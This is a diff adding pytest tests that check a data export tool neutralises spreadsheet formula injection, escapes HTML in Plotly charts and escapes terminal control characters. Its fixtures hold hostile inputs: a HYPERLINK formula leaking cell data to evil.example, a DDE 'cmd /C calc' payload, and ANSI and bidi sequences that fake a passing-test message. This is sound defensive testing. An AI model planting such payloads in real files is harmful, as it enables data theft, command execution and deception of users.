@@ -202,3 +202,84 @@ def test_docx_bomb_is_refused_before_inflating(tmp_path):
     assert path.stat().st_size < 1_000_000
     with pytest.raises(InputError, match="would inflate to 65 MiB.*MAX_DOCX_UNCOMPRESSED"):
         to_text(path)
+
+
+# --------------------------------------------------------------------------- injection: spreadsheets, Plotly, terminal
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+MARKUP = '<a href="http://evil.example">link</a><span style="font-size:90px">big</span><b>bold</b>'
+
+
+@pytest.fixture(scope="module")
+def hostile_tables():
+    """The hand-made tables with formulas and Plotly markup in doc number, title, quote and note."""
+    tables, _ = make_tables()
+    docs, targets = tables["documents"].copy(), tables["targets"].copy()
+    docs.loc[docs.index[0], "doc_number"] = FORMULA
+    docs.loc[docs.index[0], "title_zh"] = f"细则{MARKUP}"
+    docs.loc[docs.index[1], "doc_number"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    docs.loc[docs.index[1], "title_zh"] = "+1+2"
+    targets.loc[targets.index[0], "quote_zh"] = f"-1+2{MARKUP}"
+    targets.loc[targets.index[1], "note"] = MARKUP
+    targets.loc[targets.index[2], "scope_zh"] = f"\t=1+1{MARKUP}"
+    return tables | {"documents": docs, "targets": targets}
+
+
+def test_spreadsheet_cells_never_start_a_formula():
+    import pandas as pd
+
+    from compare.escape import spreadsheet_safe
+
+    df = pd.DataFrame({"a": [FORMULA, "+1+1", "-2+3", "@x", "\tx", "\rx", "-3", "-16%", "text", None],
+                       "n": [1.0, -2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0, None]})
+    out = spreadsheet_safe(df)
+    assert out["a"].tolist()[:6] == ["'" + v for v in df["a"].tolist()[:6]]
+    assert out["a"].tolist()[6:9] == ["-3", "-16%", "text"] and out["n"].equals(df["n"])
+
+
+def test_exports_hold_no_live_formula_and_charts_no_markup(hostile_tables, tmp_path):
+    import openpyxl
+
+    from compare import export
+
+    written = export.export_catalogue(tmp_path, ["zh"], ["html"], None, tables=hostile_tables)
+    files = [p for paths in written.values() for p in paths]
+    csvs = [p for p in files if p.suffix == ".csv"]
+    assert any(p.name == "sources.csv" for p in csvs) and len(csvs) > 3
+    seen = ""
+    for path in csvs:
+        text = path.read_text("utf-8-sig")
+        seen += text
+        for line in text.splitlines():
+            for cell in line.split(","):
+                assert not cell.lstrip('"').startswith(("=", "+", "@", "\t")), (path.name, line)
+    assert "'=HYPERLINK" in seen and "'@SUM" in seen
+    for path in (p for p in files if p.suffix == ".xlsx"):
+        for row in openpyxl.load_workbook(path).active.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
+    for path in (p for p in files if p.suffix == ".html"):
+        html = path.read_text("utf-8")
+        assert "evil.example\\u0022\\u003elink" not in html and '<a href=\\"http://evil' not in html
+        assert "\\u003ca href" not in html and "\\u003cspan style" not in html and "\\u003cb\\u003ebold" not in html
+
+
+def test_plotly_text_of_every_chart_is_escaped(hostile_tables):
+    from compare import figures
+
+    for job in figures.catalogue(hostile_tables):
+        fig, _ = figures.build_chart(job, hostile_tables, "en")
+        blob = fig.to_json()
+        for tag in ("<a href", "<span style", "<b>bold"):
+            assert tag not in blob and tag.replace("<", "\\u003c") not in blob, (job.name, tag)
+    fig, _ = figures.build_chart("caps_by_city", hostile_tables, "zh")
+    assert "&lt;a href" in fig.to_json()
+
+
+def test_terminal_shows_control_characters():
+    from compare.escape import terminal
+
+    fake = "quote\x1b[32m all expectations passed\x1b[0m\r\x08\u202eok\n2nd line\tcol"
+    shown = terminal(fake)
+    assert "\x1b" not in shown and "\r" not in shown and "\x08" not in shown and "\u202e" not in shown
+    assert "\\x1b[32m" in shown and shown.endswith("\n2nd line\tcol")
